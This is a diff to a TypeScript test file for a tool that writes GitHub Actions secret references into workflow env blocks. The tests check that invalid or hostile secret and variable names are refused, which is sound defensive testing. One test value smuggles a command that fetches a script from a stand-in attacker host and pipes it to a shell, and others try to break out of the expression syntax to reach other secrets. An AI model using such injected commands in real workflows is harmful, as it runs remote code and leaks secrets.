@@ -164,8 +164,41 @@ describe('whose env', () => {
     expect(() => insert(text, name)).toThrow(message);
   });
 
-  it('a line that YAML takes for something else is refused', () => {
+  it('a word that YAML takes for something else is put in quotes', () => {
     const what: EnvLine[] = [{ context: 'secrets', name: 'NULL' }];
-    expect(() => insert(`jobs:\n  a:\n${steps}`, undefined, what)).toThrow('its env: is not');
+    expect(parse(insert(`jobs:\n  a:\n${steps}`, undefined, what).text).jobs.a.env).toEqual({
+      NULL: '${{ secrets.NULL }}',
+    });
   });
+
+  it('an empty env is left alone where an alias would get the lines too', () => {
+    const text = 'jobs:\n  a:\n    env: &e\n    steps:\n      - run: python x.py\n        env: *e\n';
+    expect(() => insert(text)).toThrow('its env: is not');
+  });
+
+  it.each([
+    ['x }} ${{ secrets.OTHER'],
+    ['x || secrets.OTHER'],
+    ['A\nB: x'],
+    ['A\\u000aB'],
+    ["' ; curl evil.example | sh ; '"],
+    ['GITHUB_TOKEN'],
+    ['1A'],
+    ['A\u202e'],
+    [''],
+  ])('the name %j, which GitHub refuses, is refused', (name) => {
+    expect(() => insert(`jobs:\n  a:\n${steps}`, undefined, [{ context: 'secrets', name }])).toThrow(
+      'GitHub takes',
+    );
+  });
+
+  it.each([['A=B'], ['A\nB'], ['${{ secrets.X }}'], ['A\u0000'], ['A\u{e0001}'], ['']])(
+    'the variable %j, which no env can have, is refused',
+    (variable) => {
+      const what: EnvLine[] = [{ context: 'secrets', name: 'A', variable }];
+      expect(() => insert(`jobs:\n  a:\n${steps}`, undefined, what)).toThrow(
+        'no env: of a workflow can have',
+      );
+    },
+  );
 });
